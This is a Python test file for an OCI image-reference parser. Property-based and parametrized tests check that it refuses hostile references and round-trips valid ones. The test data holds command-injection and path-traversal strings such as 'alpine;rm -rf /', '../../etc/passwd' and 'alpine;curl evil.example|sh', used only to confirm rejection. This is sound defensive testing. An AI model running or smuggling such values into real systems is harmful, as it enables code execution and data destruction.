"""Hostile image references: injection characters, path tricks and bad digests are refused
with one InputError before any request is made; property tests check the grammar holds."""

from __future__ import annotations

import re

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from oci_attest.cli import cli
from oci_attest.errors import InputError
from oci_attest.reference import parse_digest, parse_reference

HOSTILE = [
    "alpine;rm -rf /", "alpine && curl x", "alpine|sh", "$(id)", "`id`", "alpine\n",
    "alpine\r\nHost: evil", "alpine:1 --privileged", "../../etc/passwd", "a/../b",
    "registry.example/../../v2/_catalog", "REGISTRY.example/UPPER", "alpine@sha256:abc",
    "alpine@sha256:" + "g" * 64, "alpine@sha256:" + "A" * 64, "alpine@sha1:" + "a" * 40,
    "alpine@sha256:" + "a" * 65, "alpine@", "alpine:", ":tag", "@sha256:" + "a" * 64,
    "alpine:-tag", "alpine:" + "t" * 129, "a" * 2000, "", " alpine", "alpine ",
    "evil.example:99999999/x", "[::1/x", "host:port/x", "a//b", "a/b/", "a\x00b",
    "registry.example/x?y=1", "registry.example/x#frag", "registry.example/%2e%2e/x",
    "alpine:t\u00e9g", "alpine:\u0663", "r\u00e9gistry.example/x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_reference_is_refused(text):
    with pytest.raises(InputError) as raised:
        parse_reference(text)
    assert "\n" not in raised.value.render() and "\r" not in raised.value.render()


def test_the_cli_refuses_before_any_request(tmp_path):
    result = CliRunner().invoke(cli, ["scan-secrets", "alpine;curl evil.example|sh"])
    assert result.exit_code == 3 and "Traceback" not in result.output
    assert result.stderr.strip().startswith("attest: bad input: invalid")


_component = st.from_regex(r"[a-z0-9]+(?:[_-][a-z0-9]+){0,2}", fullmatch=True)
_digest = st.from_regex(r"sha256:[a-f0-9]{64}", fullmatch=True)


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=200))
def test_arbitrary_text_parses_or_is_an_input_error(text):
    try:
        ref = parse_reference(text)
    except InputError as error:
        assert "\n" not in error.render()
        return
    rendered = str(ref)
    assert rendered.isascii()
    assert not re.search(r"[\s;|&$`'\"<>\\]", rendered)
    assert "/../" not in f"/{ref.repository}/" and "//" not in ref.repository
    assert parse_reference(rendered) == ref


@settings(max_examples=200, deadline=None)
@given(host=st.sampled_from(["", "127.0.0.1:5000/", "registry.example/", "localhost/"]),
       path=st.lists(_component, min_size=1, max_size=4),
       tag=st.one_of(st.none(), st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,20}",
                                              fullmatch=True)),
       digest=st.one_of(st.none(), _digest))
def test_valid_references_round_trip(host, path, tag, digest):
    text = host + "/".join(path) + (f":{tag}" if tag else "") + (f"@{digest}" if digest else "")
    ref = parse_reference(text)
    assert parse_reference(str(ref)) == ref
    assert ref.digest == digest
    if digest:
        assert ref.pinned().endswith(digest)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=140))
def test_digests_are_strict(text):
    try:
        assert parse_digest(text) == text
    except InputError:
        return
    assert re.fullmatch(r"sha256:[a-f0-9]{64}|sha512:[a-f0-9]{128}", text)
